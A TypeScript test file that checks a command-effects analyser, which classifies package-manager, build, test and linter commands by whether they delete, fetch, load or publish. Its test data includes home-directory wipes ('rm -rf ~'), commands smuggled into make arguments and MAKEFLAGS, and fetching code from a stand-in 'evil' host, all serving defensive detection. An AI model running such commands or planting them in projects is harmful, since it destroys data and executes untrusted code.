import assert from 'node:assert/strict';
import { effects, effectsIn } from './effects';

const table: Readonly<Record<string, readonly string[]>> = {
  // Package runners: the tool of the project, a program with a definition, or code from the network.
  'npx rimraf ~': ['change', 'run rimraf /home/dev', 'delete /home/dev tree'],
  'npx -y rimraf@5 dist': ['change', 'run rimraf dist', 'delete dist tree'],
  'yarn dlx rimraf /home/dev': ['change', 'run rimraf /home/dev', 'delete /home/dev tree'],
  'bunx del-cli src': ['change', 'run del-cli src', 'delete src tree'],
  'npx shx rm -rf dist': ['change', 'run shx rm -rf dist', 'delete dist tree'],
  'npx tsc --noEmit': ['change', 'run tsc --noEmit'],
  'npx evil': ['fetch evil', 'load ?', 'run evil'],
  "npx -c 'rm -rf ~'": ['run sh: rm -rf ~', 'delete /home/dev tree'],
  'npm exec -p evil jest': ['fetch evil', 'load ?', 'run jest', 'run project code'],
  'uvx ruff check': ['change', 'run ruff check'],
  'uv run --with evil pytest': ['fetch evil', 'load ?', 'change', 'run pytest', 'run project code'],
  'uv run --python ./evil pytest': ['run ./evil', 'change', 'run pytest', 'run project code'],
  'poetry run pytest': ['change', 'run pytest', 'run project code'],
  'bundle exec rspec': ['change', 'run rspec', 'run project code'],
  // Installing
  'npm ci': ['change'],
  'npm install': ['change'],
  'npm install left-pad': ['fetch left-pad', 'load ?'],
  'npm install -g left-pad': ['fetch left-pad', 'load ?', 'machine packages'],
  'npm i ./evil.tgz': ['fetch ./evil.tgz', 'load ?'],
  'pip install -r requirements.txt': ['read requirements.txt', 'change'],
  'pip install --user x': ['fetch x', 'load ?', 'machine packages', 'change'],
  'pip install -e .': ['change'],
  'sudo apt remove --purge libc6': ['machine privileges', 'run apt remove --purge libc6', 'machine essential-packages'],
  'apt list --installed': [],
  'brew --prefix python': [],
  // Publishing
  'npm publish': ['publish the package registry: publishes'],
  'npm publish --dry-run': ['run project code'],
  'yarn npm publish': ['publish the package registry: publishes'],
  'cargo publish -p core': ['publish crates.io: publishes'],
  'cargo yank --version 1.0.0 x': ['destroy crates.io: takes a published package away'],
  'cargo owner --add me x': ['change the package registry: changes what others see'],
  'cargo owner --list x': [],
  'gem push x.gem': ['publish the gem registry: publishes'],
  'twine upload dist/*': ['publish the package index: publishes'],
  'mvn -B release:perform': ['publish the package registry: release:perform'],
  // Text that others run later
  "npm pkg set scripts.prepare='rm -rf ~'": ['edit package.json', 'run sh: rm -rf ~', 'delete /home/dev tree'],
  'npm config set script-shell ./evil': ['machine settings', 'run sh: ./evil'],
  // Makefiles
  'make test': ['run project code'],
  'make nuke': ['load ?'],
  'make -n nuke': [],
  'make -f - <<< "all:; rm -rf ~"': ['run make from input', 'run project code', 'delete /home/dev tree'],
  "make SHELL='rm -rf ~ #'": ['load ?', 'run sh: rm -rf ~ #', 'run project code', 'delete /home/dev tree'],
  "make test FLAGS='; rm -rf ~'": ['run sh: : ; rm -rf ~', 'run project code', 'delete /home/dev tree'],
  'make test ARGS="-k foo"': ['run project code'],
  "make --eval='x:; rm -rf ~' x": ['run make: x:; rm -rf ~', 'load ?', 'delete /home/dev tree'],
  "MAKEFLAGS='--eval=$(shell rm -rf ~)' make": [
    'run make: $(shell rm -rf ~)',
    'run project code',
    'delete /home/dev tree',
  ],
  // Building
  'cmake -B build': ['create build', 'run project code'],
  'cmake --build build --target install': ['machine packages', 'run project code'],
  'cmake -P evil.cmake': ['load evil.cmake'],
  'cmake -E rm -rf src': ['unclear', 'run rm -rf src', 'delete src tree'],
  'gradle build -I evil.gradle': ['load evil.gradle', 'run project code'],
  'go build -o bin/app ./cmd/app': ['change', 'write bin/app'],
  'go build -toolexec ./evil ./...': ['run ./evil', 'change'],
  'go vet -vettool=./evil ./...': ['run ./evil', 'change'],
  'go run evil.example/x@latest': ['fetch evil.example/x@latest', 'load ?', 'run project code'],
  'tsc --outDir /home/dev': ['create /home/dev', 'change'],
  'cargo +nightly test': ['change', 'run project code'],
  'cargo test --config x.toml': ['load x.toml', 'change', 'run project code'],
  'gcc -o app a.c': ['write app', 'read a.c', 'change'],
  'gcc -fplugin=evil.so a.c': ['load evil.so', 'load ?', 'read a.c', 'change'],
  // Testing
  'jest --globalSetup ./x': ['load ./x', 'run project code'],
  'pytest -p evil': ['load ?', 'run project code'],
  'pytest --basetemp=/srv': ['delete /srv tree', 'run project code'],
  'mocha -r ./evil.js': ['load ./evil.js', 'run project code'],
  // Checking
  'eslint src': ['run project code', 'read src'],
  'eslint --fix src': ['run project code', 'edit src'],
  'eslint -f ./evil.js src': ['run project code', 'load ./evil.js', 'read src'],
  'eslint --rulesdir ./evil src': ['load ./evil', 'run project code', 'read src'],
  'prettier --write a.ts': ['edit a.ts'],
  'prettier --plugin=./evil.js --check .': ['load ./evil.js', 'read .'],
  'stylelint --custom-formatter ./evil.js a.css': ['load ./evil.js', 'run project code', 'read a.css'],
  'mypy --python-executable ./evil .': ['run ./evil', 'read .'],
  'pyright --pythonpath ./evil': ['run ./evil'],
  'knip --preprocessor ./evil.js': ['load ./evil.js', 'run project code'],
  'markdownlint -r ./evil.js README.md': ['load ./evil.js', 'read README.md'],
  'actionlint -shellcheck ./evil': ['run ./evil'],
  'xmllint --shell a.xml': ['read a.xml', 'unclear'],
  'xmllint --output out.xml a.xml': ['write out.xml', 'read a.xml'],
  'ruff check --fix src': ['edit src'],
  'black --check .': ['read .'],
  'shellcheck -x a.sh': ['read a.sh'],
};

describe('package managers, builds, tests and linters', () => {
  for (const [command, expected] of Object.entries(table)) {
    it(command, () => {
      assert.deepEqual(effects(command), expected);
    });
  }
});

describe('scripts of the project', () => {
  const files = {
    '/home/dev/project/package.json': JSON.stringify({
      scripts: {
        prewipe: 'echo soon',
        wipe: 'rm -rf ~',
        tidy: 'npm run wipe',
        loop: 'npm run loop',
        go: 'node build.js',
      },
    }),
    '/home/dev/project/Makefile': 'DIR = ~\nBIN := $(DIR)/bin\nall: clean\n\techo done\nclean:\n\t@rm -rf $(BIN)\n',
    '/home/dev/project/justfile': 'default:\n  echo hi\nwipe target:\n  rm -rf ~\n',
    '/home/dev/project/composer.json': JSON.stringify({ scripts: { wipe: ['echo a', 'rm -rf ~'] } }),
    '/home/dev/project/pyproject.toml': '[tool.pdm.scripts]\nwipe = "rm -rf ~"\nother = { cmd = "pytest" }\n',
  };
  const opened: Readonly<Record<string, readonly string[]>> = {
    'npm run wipe': ['load ?', 'run sh: echo soon && rm -rf ~', 'delete /home/dev tree'],
    'cd src && npm run tidy': [
      'run project code',
      'run sh: npm run wipe',
      'load ?',
      'run sh: echo soon && rm -rf ~',
      'delete /home/dev tree',
    ],
    'npm run missing': ['run project code'],
    'npm run loop': ['run project code', 'run sh: npm run loop', 'run project code', 'run sh: npm run loop'],
    make: ['run project code', 'run sh: rm -rf ~/bin\necho done', 'delete /home/dev/bin tree'],
    'make clean DIR=/srv': ['load ?', 'run sh: rm -rf /srv/bin', 'delete /srv/bin tree'],
    'just wipe x': ['load ?', 'run sh: rm -rf ~', 'delete /home/dev tree'],
    'composer wipe': ['load ?', 'run sh: echo a && rm -rf ~', 'delete /home/dev tree'],
    'pdm run wipe': ['change', 'load ?', 'run sh: rm -rf ~', 'delete /home/dev tree'],
  };
  for (const [command, expected] of Object.entries(opened)) {
    it(`are opened: ${command}`, () => {
      assert.deepEqual(effectsIn(files, command), expected);
    });
  }
});
